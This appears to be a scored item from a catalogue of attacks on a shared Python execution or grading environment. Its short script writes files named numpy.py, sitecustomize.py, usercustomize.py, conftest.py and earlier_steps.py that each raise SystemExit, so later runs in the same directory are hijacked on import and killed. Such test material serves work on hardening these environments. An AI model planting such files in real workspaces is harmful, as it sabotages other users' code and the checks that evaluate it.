# attack: leaves modules in its place for the next one to import
# family: state
# base: solved
# points: 7
# %% last
for name in ("numpy.py", "earlier_steps.py", "sitecustomize.py", "conftest.py", "usercustomize.py"):
    open(name, "w").write("raise SystemExit")
